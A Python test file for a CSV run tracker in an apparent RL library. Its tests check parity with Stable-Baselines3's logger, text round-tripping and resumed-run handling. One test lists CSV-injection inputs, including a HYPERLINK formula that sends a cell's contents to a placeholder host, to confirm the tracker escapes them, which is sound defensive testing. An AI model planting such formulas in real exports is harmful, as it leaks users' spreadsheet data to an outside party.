"""CSV files of a run, beside those of Stable-Baselines3's own logger."""

import csv
import math

import pytest

from textenv.algos.storage.trackers.to_csv import CSV
from textenv.algos.storage.trackers.tracker import Run

STEPS = [
    {"step": 1.0, "loss": 0.5, "reward": math.nan},
    {"step": 2.0, "loss": -math.inf, "reward": 0.25, "eval/accuracy": 1 / 3},
    {"step": 3.0, "reward": 1e-12},
]


def rows_of(path):
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def test_the_rows_are_those_of_stable_baselines3(tmp_path):
    logger = pytest.importorskip("stable_baselines3.common.logger")
    theirs = logger.CSVOutputFormat(str(tmp_path / "theirs.csv"))
    ours = CSV(Run(tmp_path, {}))
    for metrics in STEPS:
        ours.log(metrics, int(metrics["step"]))
        theirs.write(metrics, {})
    theirs.close()
    assert rows_of(tmp_path / "progress.csv") == rows_of(tmp_path / "theirs.csv")
    assert [row["eval/accuracy"] for row in rows_of(tmp_path / "progress.csv")] == [
        *("", str(1 / 3), "")
    ]


def test_texts_come_back_as_they_were(tmp_path):
    texts = ['a,"b"\n\nc', "\x1b[31m\u202e", "1=1", "</script>", "", "a\rb", "'", " \r\n"]
    tracker = CSV(Run(tmp_path, {}))
    tracker.table("eval/examples", [{"completion": text, "answer": None} for text in texts], 7)
    rows = rows_of(tmp_path / "eval_examples.csv")
    assert [row["completion"] for row in rows] == texts
    assert {row["step"] for row in rows} == {"7"} and {row["answer"] for row in rows} == {""}


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "--5", "-x", "-5 apples",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", '=HYPERLINK("http://a.example/?"&A1,"b")',
    "-\u0661", "-5\n=1",
]  # fmt: skip


def test_texts_are_no_formulas(tmp_path):
    """The characters are those of OWASP's page on CSV injection, and so is the apostrophe."""
    plain = ["-5", "+3.25", "-.5", "-1e-07", "5", "'=1", "a=1", " =1", ""]
    tracker = CSV(Run(tmp_path, {}))
    for text in FORMULAS + plain:
        tracker.table("completions", [{"text": text, "reward": -0.5}], 1)
    # A further column has the file written again, and a run that goes on reads it.
    tracker.table("completions", [{"text": "=2", "reward": -math.inf, "=more": 1.0}], 2)
    CSV(Run(tmp_path, {}, resumed=True)).table("completions", [{"text": "@3", "=more": -1.0}], 3)
    rows = rows_of(tmp_path / "completions.csv")
    expected = [f"'{text}" for text in FORMULAS] + plain + ["'=2", "'@3"]
    assert [row["text"] for row in rows] == expected
    assert [row["reward"] for row in rows] == ["-0.5"] * (len(expected) - 2) + ["-inf", ""]
    assert [row["'=more"] for row in rows] == [""] * (len(expected) - 2) + ["1.0", "-1.0"]


def test_a_run_that_goes_on_replaces_the_steps_that_it_makes_again(tmp_path):
    tracker = CSV(Run(tmp_path, {}))
    for step in (1, 2, 3):
        tracker.log({"loss": float(step)}, step)
        tracker.table("completions", [{"text": f"{step}"}] * 2, step)
    with (tmp_path / "progress.csv").open("a") as file:
        file.write("4")  # a crash
    resumed = CSV(Run(tmp_path, {}, resumed=True))
    for step in (3, 4):
        resumed.log({"loss": 10.0 * step, "new": 1.0}, step)
        resumed.table("completions", [{"text": f"{step} again"}], step)
    rows = rows_of(tmp_path / "progress.csv")
    assert [row["loss"] for row in rows] == ["1.0", "2.0", "30.0", "40.0"]
    assert [row["new"] for row in rows] == ["", "", "1.0", "1.0"]
    texts = [row["text"] for row in rows_of(tmp_path / "completions.csv")]
    assert texts == ["1", "1", "2", "2", "3 again", "4 again"]


def test_a_carriage_return_loses_no_row_when_a_run_goes_on(tmp_path):
    CSV(Run(tmp_path, {})).table("completions", [{"text": "a\rb"}, {"text": "b\r"}], 1)
    CSV(Run(tmp_path, {}, resumed=True)).table("completions", [{"text": "c"}], 2)
    rows = rows_of(tmp_path / "completions.csv")
    assert [row["text"] for row in rows] == ["a\rb", "b\r", "c"]


def test_a_file_that_ends_within_a_character_goes_on(tmp_path):
    (tmp_path / "completions.csv").write_bytes(b"step,text\n1,whole\n2,\xc3")
    CSV(Run(tmp_path, {}, resumed=True)).table("completions", [{"text": "again"}], 2)
    assert (tmp_path / "completions.csv").read_bytes() == b"step,text\n1,whole\n2,again\n"


def test_a_new_run_begins_anew(tmp_path):
    (tmp_path / "progress.csv").write_text("step,old\n1,2\n")
    CSV(Run(tmp_path, {})).log({"loss": 0.5}, 1)
    assert rows_of(tmp_path / "progress.csv") == [{"step": "1", "loss": "0.5"}]
